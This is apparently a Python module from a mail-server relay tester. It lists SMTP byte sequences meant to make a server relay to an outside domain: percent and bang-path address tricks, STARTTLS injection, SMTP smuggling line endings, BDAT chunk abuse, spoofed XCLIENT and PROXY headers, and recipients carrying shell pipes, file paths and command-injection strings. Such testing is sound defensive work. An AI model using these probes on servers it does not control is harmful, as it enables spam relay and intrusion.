"""What is tried: the spellings and sequences by which servers were made to relay, each with its bytes.

A trick is a row of steps. Bytes are sent in one go, and one reply is read where they end with CRLF; ``TLS`` is the
handshake, where the server has just agreed to it. No step ends the content of a message that might have been accepted.
``own`` is a domain that the server may take for its own, ``OUTSIDE`` one that nobody has.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final, Literal, TypeAlias

TLS: Final = "TLS"
Step: TypeAlias = bytes | Literal["TLS"]

When: TypeAlias = Literal["plain", "tls", "both"]
"""Before TLS where that begins by STARTTLS, in TLS, or both."""

OUTSIDE = b"relay-test.invalid"
VICTIM = b"v@" + OUTSIDE

HELLO = b"EHLO client." + OUTSIDE + b"\r\n"


@dataclass(frozen=True, slots=True)
class Trick:
    """``before``: what is done first: nothing is awaited, or the greeting is, or EHLO is said, too. ``xclient``: a trick
    only for those who are not trusted as XCLIENT's.
    """

    name: str
    steps: tuple[Step, ...]
    when: When = "both"
    before: Literal["nothing", "greeting", "ehlo"] = "ehlo"
    xclient: bool = False


def tricks(own: bytes) -> Iterator[Trick]:
    """All of them. ``own`` is the server's name."""
    yield from _senders(own)
    yield from _sequences(own)
    yield from _recipients(own)
    yield from _logins(own)
    yield from _starttls(own)
    yield from _lines(own)
    yield from _contents(own)
    yield from _chunks(own)
    yield from _peers(own)


def _mail(own: bytes) -> bytes:
    return b"MAIL FROM:<relay-test@%b>\r\n" % own


RCPT = b"RCPT TO:<" + VICTIM + b">\r\n"
DATA = b"DATA\r\n"
REST = (RCPT, DATA)


def _senders(own: bytes) -> Iterator[Trick]:
    """MAIL without a login, however it is written."""
    me = b"relay-test@" + own
    for name, line in {
        "no login": b"MAIL FROM:<%b>" % me,
        "the null sender": b"MAIL FROM:<>",
        "mail in lower case": b"mail from:<%b>" % me,
        "a blank before the address": b"MAIL FROM: <%b>" % me,
        "an address without brackets": b"MAIL FROM:%b" % me,
        "blanks before MAIL": b"  MAIL FROM:<%b>" % me,
        "MAIL and a tab": b"MAIL\tFROM:<%b>" % me,
        "MAIL from postmaster": b"MAIL FROM:<postmaster>",
        "MAIL from root at this host": b"MAIL FROM:<root@localhost>",
        "MAIL from an address literal": b"MAIL FROM:<root@[127.0.0.1]>",
        "MAIL from outside": b"MAIL FROM:<%b>" % VICTIM,
        "MAIL with a route": b"MAIL FROM:<@%b:%b>" % (own, VICTIM),
        "MAIL AUTH=<>": b"MAIL FROM:<%b> AUTH=<>" % me,
        "MAIL AUTH= with our address": b"MAIL FROM:<%b> AUTH=%b" % (me, me),
        "MAIL AUTH= with a line end in xtext": b"MAIL FROM:<%b> AUTH=x+0D+0ARCPT+20TO:<%b>" % (me, VICTIM),
        "MAIL SIZE=0 BODY=8BITMIME": b"MAIL FROM:<%b> SIZE=0 BODY=8BITMIME" % me,
        "MAIL SMTPUTF8": "MAIL FROM:<relày@".encode() + own + b"> SMTPUTF8",
        "SEND": b"SEND FROM:<%b>" % me,
        "SOML": b"SOML FROM:<%b>" % me,
        "SAML": b"SAML FROM:<%b>" % me,
    }.items():
        yield Trick(name, (line + b"\r\n", *REST))


def _sequences(own: bytes) -> Iterator[Trick]:
    """Commands where they do not belong (what audits of Postfix found in 2026)."""
    mail = _mail(own)
    yield Trick("RCPT without MAIL", REST)
    yield Trick("DATA alone", (DATA,))
    yield Trick("BDAT alone", (b"BDAT 6\r\nhello\n",))
    yield Trick("MAIL without EHLO", (mail, *REST), before="greeting")
    yield Trick("HELO", (b"HELO " + own + b"\r\n", mail, *REST), before="greeting")
    yield Trick("EHLO in the server's name", (b"EHLO " + own + b"\r\n", mail, *REST))
    yield Trick("EHLO as localhost", (b"EHLO localhost\r\n", mail, *REST))
    yield Trick("EHLO as [127.0.0.1]", (b"EHLO [127.0.0.1]\r\n", mail, *REST))
    yield Trick("LHLO", (b"LHLO client\r\n", mail, *REST))
    yield Trick("MAIL twice", (mail, mail, *REST))
    yield Trick("RSET in between", (mail, b"RSET\r\n", *REST))
    yield Trick("VRFY in between, then DATA", (mail, RCPT, "VRFY ü\r\n".encode(), DATA))
    yield Trick("a broken BDAT, then DATA", (mail, RCPT, b"BDAT x\r\n", DATA))
    yield Trick("DATA, then RCPT", (mail, DATA, *REST))
    yield Trick("ETRN", (b"ETRN " + OUTSIDE + b"\r\n", *REST))
    yield Trick("TURN", (b"TURN\r\n", *REST))
    yield Trick("pipelined", (mail + RCPT + DATA,))
    yield Trick("pipelined with EHLO", (HELLO + mail + RCPT + DATA,))
    yield Trick("all of it before the greeting", (HELLO + mail + RCPT + DATA,), before="nothing")


def _recipients(own: bytes) -> Iterator[Trick]:
    """Recipients that look local and mean somebody outside, or the other way round."""
    out = OUTSIDE
    for name, path in {
        "percent hack": b"<v%%%b@%b>" % (out, own),
        "percent hack, quoted": b'<"v%%%b"@%b>' % (out, own),
        "percent hack, no domain": b"<v%%%b>" % out,
        "an address as local part": b'<"v@%b"@%b>' % (out, own),
        "an address as local part, escaped": b"<v\\@%b@%b>" % (out, own),
        "a quoted address, no domain": b'<"v@%b">' % out,
        "bang path": b"<%b!v@%b>" % (out, own),
        "bang path, quoted": b'<"%b!v"@%b>' % (out, own),
        "bang path, no domain": b"<%b!v>" % out,
        "bang path behind percent": b"<%b!v%%%b@%b>" % (own, out, own),
        "a quote that ends too early": b'<"a\\"@%b>x"@%b>' % (out, own),
        "a route by this server": b"<@%b:v@%b>" % (own, out),
        "a route by two servers": b"<@a.invalid,@%b:v@%b>" % (own, out),
        "two domains": b"<v@%b@%b>" % (out, own),
        "two domains, reversed": b"<v@%b@%b>" % (own, out),
        "a NUL in the domain": b"<v@%b\0@%b>" % (own, out),
        "a comment": b"<v@%b (@%b)>" % (out, own),
        "two recipients": b"<v@%b,w@%b>" % (own, out),
        "two recipients, two brackets": b"<v@%b> <w@%b>" % (own, out),
        "an address literal": b"<v@[127.0.0.1]>",
        "no address": b"<>",
        "postmaster": b"<postmaster>",
        "a dot behind the domain": b"<v@%b.>" % own,
        "a pipe": b"<|/bin/sh@%b>" % own,
        "a file": b"</etc/passwd@%b>" % own,
        "an option": b"<-oQ/tmp@%b>" % own,
        "a command": b"<;sleep${IFS}1;@%b>" % own,
        "an expansion": b"<${run{/bin/true}}@%b>" % own,
        "a long local part": b"<%b@%b>" % (b"v" * 300, own),
        "no brackets": b"v@%b" % out,
        "a line end in ORCPT": b"<v@%b> ORCPT=rfc822;v@x+0D+0ADATA" % out,
        "an encoded word": b"<=?utf-8?q?v=40%b=3E?=@%b>" % (out, own),
        "a full-width @": "<v\uff20".encode() + out + b"@" + own + b">",
    }.items():
        yield Trick(f"RCPT: {name}", (_mail(own), b"RCPT TO:%b\r\n" % path, DATA))


def _base64(text: bytes) -> bytes:
    return base64.b64encode(text)


def _logins(own: bytes) -> Iterator[Trick]:
    """Logins that must fail, and mail behind them."""
    me, wrong = b"relay-test@" + own, b"a password that nobody has"
    rest = (_mail(own), *REST)
    plain = _base64(b"\0%b\0%b" % (me, wrong))
    for name, line in {
        "a wrong password": b"PLAIN " + plain,
        "acting as root": b"PLAIN " + _base64(b"root\0%b\0%b" % (me, wrong)),
        "an empty password": b"PLAIN " + _base64(b"\0%b\0" % me),
        "neither name nor password": b"PLAIN " + _base64(b"\0\0"),
        "an empty response": b"PLAIN =",
        "a NUL too many": b"PLAIN " + _base64(b"\0%b\0%b\0" % (me, wrong)),
        "no base64": b"PLAIN !!!!",
        "base64 without its padding": b"PLAIN " + plain.rstrip(b"=") + b"A",
        "a word too many": b"PLAIN " + plain + b" x",
        "a long response": b"PLAIN " + b"A" * 13_000,
        "ANONYMOUS": b"ANONYMOUS " + _base64(b"guest"),
        "EXTERNAL without a certificate": b"EXTERNAL " + _base64(me),
        "EXTERNAL, empty": b"EXTERNAL =",
        "XOAUTH2 without a token": b"XOAUTH2 " + _base64(b"user=%b\1auth=Bearer \1\1" % me),
        "no mechanism of that name": b"NONE =",
    }.items():
        yield Trick(f"AUTH: {name}", (b"AUTH %b\r\n" % line, *rest))
    login = (_base64(me) + b"\r\n", _base64(wrong) + b"\r\n")
    yield Trick("AUTH: LOGIN with a wrong password", (b"AUTH LOGIN\r\n", *login, *rest))
    yield Trick("AUTH: cancelled", (b"AUTH LOGIN\r\n", b"*\r\n", *rest))
    yield Trick("AUTH: MAIL in place of a response", (b"AUTH LOGIN\r\n", *rest))
    yield Trick(
        "AUTH: CRAM-MD5 with a digest of zeros", (b"AUTH CRAM-MD5\r\n", _base64(me + b" " + b"0" * 32) + b"\r\n", *rest)
    )
    yield Trick("AUTH: MAIL behind it in one segment", (b"AUTH PLAIN " + plain + b"\r\n" + b"".join(rest),))
    yield Trick("AUTH: wrong three times", (*(b"AUTH PLAIN " + plain + b"\r\n",) * 3, *rest))


def _starttls(own: bytes) -> Iterator[Trick]:
    """What was said before TLS and is done in it (CVE-2011-0411)."""
    mail = _mail(own)
    behind = mail + RCPT + DATA
    yield Trick("STARTTLS and MAIL in one segment", (b"STARTTLS\r\n" + behind, TLS), "plain")
    yield Trick("STARTTLS and EHLO, MAIL in one segment", (b"STARTTLS\r\n" + HELLO + behind, TLS), "plain")
    yield Trick("STARTTLS and MAIL, by LF alone", (b"STARTTLS\n" + behind.replace(b"\r\n", b"\n"), TLS), "plain")
    yield Trick("STARTTLS and no handshake", (b"STARTTLS\r\n", behind), "plain")
    yield Trick("STARTTLS with an argument", (b"STARTTLS x\r\n", mail, *REST), "plain")
    yield Trick("STARTTLS in a transaction", (mail, RCPT, b"STARTTLS\r\n", TLS, DATA), "plain")
    yield Trick("MAIL in TLS without a new EHLO", (b"STARTTLS\r\n", TLS, mail, *REST), "plain")
    yield Trick("STARTTLS in TLS", (b"STARTTLS\r\n", mail, *REST), "tls")


def _lines(own: bytes) -> Iterator[Trick]:
    """Lines that end where others see none."""
    words = _mail(own) + RCPT + DATA
    yield Trick("lines that end in LF", (words.replace(b"\r\n", b"\n"),))
    yield Trick("lines that end in CR", (words.replace(b"\r\n", b"\r") + b"\n",))
    yield Trick("lines behind a NOOP's LF", (b"NOOP x\n" + words,))
    yield Trick("lines behind a NOOP's CR", (b"NOOP x\r" + words,))
    yield Trick("lines behind a NUL", (b"NOOP x\0\r\n" + words,))
    yield Trick("NUL before MAIL", (b"\0" + words,))
    yield Trick("a line of 200,000 octets", (b"NOOP " + b"x" * 200_000 + b"\r\n" + words,))
    yield Trick("a backspace over a word", (b"NOOP\x08\x08\x08\x08" + words,))
    web = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99\r\n\r\n"
    yield Trick("a web browser", (web + words,))
    yield Trick("a web browser that speaks first", (web + HELLO + words,), before="nothing")


def _contents(own: bytes) -> Iterator[Trick]:
    """A second message behind what only some take for the end of the first (CVE-2023-51764 and its like)."""
    mail = _mail(own)
    for end in (
        b"\n.\n",
        b"\n.\r\n",
        b"\r\n.\n",
        b"\r\n.\r\r\n",
        b"\r\r\n.\r\r\n",
        b"\r.\r",
        b"\r.\n",
        b"\n.\r",
        b"\r.\r\n",
        b"\r\n.\r",
        b"\r\n\0.\r\n",
        b"\r\n.\0\r\n",
    ):
        yield Trick(
            f"smuggled behind {ascii(end)[2:-1]}", (mail, *REST, b"Subject: x\r\n\r\nx" + end + mail + RCPT + DATA)
        )


def _chunks(own: bytes) -> Iterator[Trick]:
    """A chunk whose octets are taken for commands: sizes that are none, chunks that nobody wants."""
    words = _mail(own) + RCPT + DATA
    for size in (
        b"%d" % len(words),
        b"%d LAST x" % len(words),
        b"%d LASTLY" % len(words),
        b"-1",
        b"+5",
        b"0x10",
        b"99999999999999999999",
        b"0",
        b"",
    ):
        yield Trick(f"commands behind BDAT {size.decode()}".rstrip(), (b"BDAT %b\r\n" % size + words,))
    whole = _mail(own) + RCPT + b"BDAT 3\r\nabc"
    yield Trick("MAIL, RCPT and a chunk, then DATA", (whole + DATA,))


def _peers(own: bytes) -> Iterator[Trick]:
    """Trust that a proxy has, and a stranger has not."""
    rest = (_mail(own), *REST)
    for words in (b"LOGIN=root", b"LOGIN=relay-test@" + own, b"ADDR=127.0.0.1", b"ADDR=::1 NAME=localhost LOGIN=root"):
        yield Trick(f"XCLIENT {words.decode()}", (b"XCLIENT %b\r\n" % words, HELLO, *rest), xclient=True)
    yield Trick("XFORWARD", (b"XFORWARD ADDR=127.0.0.1 NAME=localhost\r\n", *rest), xclient=True)
    header = b"PROXY TCP4 127.0.0.1 127.0.0.1 4711 587\r\n"
    yield Trick("a PROXY header, by a stranger", (header, HELLO, *rest), before="nothing")
    yield Trick("a PROXY header behind EHLO", (header, *rest))
    local = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes((127, 0, 0, 1, 127, 0, 0, 1, 0x12, 0x67, 0x02, 0x4B))
    yield Trick("a PROXY header of version 2, by a stranger", (local, HELLO, *rest), before="nothing")
